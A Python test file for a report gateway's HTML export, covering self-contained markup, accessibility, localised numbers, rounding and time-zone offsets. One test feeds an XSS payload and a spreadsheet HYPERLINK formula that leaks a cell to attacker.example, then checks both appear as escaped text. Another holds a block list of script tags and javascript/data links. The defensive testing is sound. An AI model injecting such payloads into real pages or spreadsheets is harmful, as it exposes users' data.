"""The page: whole by itself, nothing of a stranger's words in its markup, every chart with its table, figures that are never
rounded over an objective; in three languages."""

import io
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from gateway import export
from gateway.domain.reports.document import CellKind, Report, Table
from gateway.export import Manner, pages
from tests.domain.reports import sample

VOID = {"meta", "input", "link", "br", "img"}


class Reader(HTMLParser):
    """Every element that is opened is closed in its turn; what a page would load; its texts."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self.open:
            self.texts.append(data)


def read(report: Report | None = None, language: str = "en") -> Reader:
    stream = io.BytesIO()
    export.write(report or sample.report(), "html", stream, Manner(language=language, made_by="maria"))
    reader = Reader()
    reader.feed(
        stream.getvalue().decode().replace("<wbr>", "")
    )  # where a text may be broken is no part of it
    assert reader.open == []
    return reader


def text(reader: Reader) -> str:
    return re.sub(r"\s+", " ", " ".join(reader.texts))


@pytest.mark.parametrize("language", ["en", "ru", "it"])
def test_it_is_whole_and_loads_and_runs_nothing(language: str) -> None:
    page = read(language=language)
    names = {tag for tag, _ in page.seen}
    assert not names & {"script", "img", "link", "iframe", "object", "embed", "form", "base"}
    for tag, attributes in page.seen:
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "src")], tag
        assert (
            not (attributes.get("href") or "#")
            .lstrip()
            .lower()
            .startswith(("http", "javascript", "data", "//"))
        )
    assert ("html", {"lang": language}) in page.seen


def test_ids_are_there_once_and_what_is_referred_to_is_there() -> None:
    page = read()
    ids = [attributes["id"] for _, attributes in page.seen if attributes.get("id")]
    assert len(ids) == len(set(ids))
    for _, attributes in page.seen:
        for name in ("aria-labelledby", "aria-describedby"):
            assert set((attributes.get(name) or "").split()) <= set(ids)
        assert (attributes.get("href") or "#x")[1:] in {*ids, "x"}
        for reference in re.findall(r"url\(#([^)]+)\)", attributes.get("fill") or ""):
            assert reference in ids


def test_the_summary_stands_in_front_of_every_chapter() -> None:
    shown = text(read())
    first = shown.index("1,999 of 2,000 resolutions")
    assert shown.index("Version 2") < first < shown.index("By what tickets were measured")
    assert "3 of 437 tickets were measured while a link was down" in shown
    assert "till-sla version 3" in shown


def test_every_table_has_a_caption_and_scoped_headings_and_totals() -> None:
    page = read()
    heads = [attributes.get("scope") for tag, attributes in page.seen if tag == "th"]
    assert set(heads) == {"col", "row"}
    tables = [tag for tag, _ in page.seen if tag == "table"]
    filled = [one for section in sample.report().sections for one in section.tables if one.rows]
    assert len(tables) == len([1 for tag, _ in page.seen if tag == "caption"]) == len(filled)
    assert "No ticket was met on every clock and yet complained of." in text(page)


def test_every_chart_is_a_named_picture_with_its_table_and_its_sentence() -> None:
    page = read()
    charts = [attributes for tag, attributes in page.seen if attributes.get("class") == "chart"]
    wanted = [chart for section in sample.report().sections for chart in section.charts]
    assert len(charts) == len(wanted) == 4
    assert all(one.get("role") == "img" and one.get("aria-labelledby") for one in charts)
    for chart in wanted:
        assert f"{chart.summary} The same figures are in the table below." in text(page)


@pytest.mark.parametrize("language", ["en", "ru", "it"])
def test_no_share_is_shown_as_more_than_it_is(language: str) -> None:
    shown = text(read(language=language))
    point = "." if language == "en" else ","
    assert f"99{point}95 %" in shown, "1,999 of 2,000, and 99,951 of 100,000"
    assert f"94{point}35 %" in shown, "117 of 124 are 94.354 %"


def test_moments_say_their_offset_where_the_clocks_change() -> None:
    shown = text(read())
    assert "Due (Europe/Rome)" in shown
    assert "25 Oct 2026, 02:30:00 CEST" in shown
    assert "25 Oct 2026, 02:30:00 CET" in shown


def test_the_long_name_of_a_clock_is_broken_between_its_parts() -> None:
    table = Table(
        id="t",
        title="T",
        columns=(sample.column("clock", "Clock", CellKind.CODE),),
        rows=(("till-sla/hop_<b>/resolution",), ("x" * 60,)),
    )
    section = replace(sample.report().sections[0], tables=(table,), charts=())
    shown = pages.text(replace(sample.report(), sections=(section,)), Manner())
    assert "till-sla/<wbr>hop_&lt;b&gt;/<wbr>resolution" in shown
    assert f'<th scope="row">{"x" * 60}</th>' in shown


def test_words_of_strangers_are_words() -> None:
    shown = text(read())
    assert "<script>alert(1)</script><img src=x onerror=alert(1)>" in shown
    assert '=HYPERLINK("http://attacker.example/?"&A1,"Click")' in shown


def test_other_languages_group_and_point_their_numbers() -> None:
    assert "1.250,00 EUR" in text(read(language="it"))
    assert "99 951" in text(read(language="ru"))
    assert "Сводка" in text(read(language="ru"))


def test_a_length_of_less_than_a_second_is_not_nothing() -> None:
    table = Table(
        id="t",
        title="T",
        columns=(sample.column("a", "A"), sample.column("b", "B", CellKind.LENGTH)),
        rows=(
            ("tiny", timedelta(microseconds=1)),
            ("none", timedelta()),
            ("less", timedelta(microseconds=-1)),
        ),
    )
    section = replace(sample.report().sections[0], tables=(table,), charts=())
    shown = text(read(replace(sample.report(), sections=(section,))))
    assert "<1 s" in shown
    assert "0 s" in shown
    assert "\N{MINUS SIGN}<1 s" in shown


def test_a_draft_says_so_and_what_stands_beside_the_title_too() -> None:
    page = pages.text(
        replace(sample.report(), version=0), Manner(), beside=("Version 3 has replaced this one.",)
    )
    assert "Draft · Made" in page
    assert "Version 3 has replaced this one." in page


def test_commands_in_sentences_are_set_as_such() -> None:
    page = pages.text(replace(sample.report(), warnings=("Run `interdesk <b>`.", "a ` alone")), Manner())
    assert "<li>Run <code>interdesk &lt;b&gt;</code>.</li>" in page
    assert "<li>a ` alone</li>" in page


def test_an_empty_report_is_a_page() -> None:
    empty = Report(
        kind="x", title="Nothing", parameters={}, made_at=datetime(2026, 1, 1, tzinfo=UTC), zone="UTC"
    )
    assert "Nothing" in text(read(empty))
